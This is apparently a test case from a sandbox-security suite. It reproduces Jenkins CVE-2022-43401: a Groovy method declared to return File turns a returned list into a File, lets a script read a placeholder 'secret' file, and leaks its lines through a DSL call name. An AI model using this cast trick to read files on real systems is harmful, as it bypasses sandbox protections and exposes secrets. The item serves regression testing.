// class: coercion
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted)
// expect: read
// A method whose declared return type is File turns the returned list into new File(path).
File secretFile() { ['@CANARY_READ@'] }
def v = secretFile().collect { it }.join('|')  // a File iterates over its lines
vmwareSite("leak-${v}") { network 'VM Network' }
